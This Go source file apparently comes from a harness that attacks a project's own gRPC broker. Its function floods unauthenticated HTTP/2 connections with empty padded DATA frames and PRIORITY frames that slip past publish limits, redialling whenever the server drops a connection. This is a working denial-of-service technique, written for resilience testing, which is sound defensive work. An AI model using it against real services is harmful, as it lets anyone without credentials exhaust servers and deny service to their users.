package main

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"

	roomcastv1 "github.com/roomcast/roomcast/gen/roomcast/v1"
	"github.com/roomcast/roomcast/internal/rawh2"
)

// (n) Frames that carry nothing, without a credential: each connection
// opens one Publish call and sends padded DATA frames of no data on it,
// and PRIORITY frames between them, as fast as the server reads them.
// grpc-go spends about the same on such a frame as on a command, and
// neither begins a message, so no publish limit sees them. A connection
// the server closes is dialled again.
func frameFlood(ctx context.Context, s childSpec) (string, error) {
	const connections, batch = 5, 500
	var frames, dials, closed atomic.Int64
	var wg sync.WaitGroup
	for range connections {
		wg.Go(func() {
			for !ended(ctx) {
				h2, err := rawConn(ctx, s.Addr)
				dials.Add(1)
				if err != nil {
					continue
				}
				id, err := h2.Open(h2.Encode(rawh2.GRPCHeaders(s.Addr, roomcastv1.BrokerService_Publish_FullMethodName)), false)
				for err == nil && !ended(ctx) {
					err = h2.Frames(func(fr *http2.Framer) error {
						for range batch {
							if err := fr.WriteDataPadded(id, false, nil, padding); err != nil {
								return err
							}
							if err := fr.WritePriority(id+2, http2.PriorityParam{StreamDep: id, Weight: 15}); err != nil {
								return err
							}
						}
						return nil
					})
					if err == nil {
						err = h2.Flush()
					}
					if err == nil {
						frames.Add(2 * batch)
					}
				}
				if err != nil && !ended(ctx) {
					closed.Add(1)
				}
				h2.Close()
			}
		})
	}
	wg.Wait()
	return fmt.Sprintf("%s frames of nothing sent (padded DATA on a Publish call without a credential, and PRIORITY) on %d connections at a time; %s dials, %s connections ended before the attack's end",
		commas(int(frames.Load())), connections, commas(int(dials.Load())), commas(int(closed.Load()))) + attackerCPU(), nil
}

// padding is what each of (n)'s DATA frames carries: nothing but padding.
var padding = make([]byte, 8)
